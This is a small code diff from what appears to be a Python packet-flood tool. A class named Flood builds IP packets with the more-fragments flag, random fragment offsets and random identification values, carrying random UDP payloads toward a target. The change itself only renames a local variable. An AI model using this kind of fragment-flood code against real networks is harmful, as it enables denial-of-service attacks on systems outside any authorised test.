@@ -50,11 +50,11 @@ class Flood:
 
     def _fragment(self, source: bytes) -> bytes:
         chance = self._chance
-        place = {
+        options = {
             "fragment": packets.MF | chance.randrange(8000),
             "identification": chance.getrandbits(16),
         }
-        return packets.ip(source, self._target, packets.UDP, chance.randbytes(64), **place)
+        return packets.ip(source, self._target, packets.UDP, chance.randbytes(64), **options)
 
     def _noise(self, source: bytes) -> bytes:
         chance = self._chance
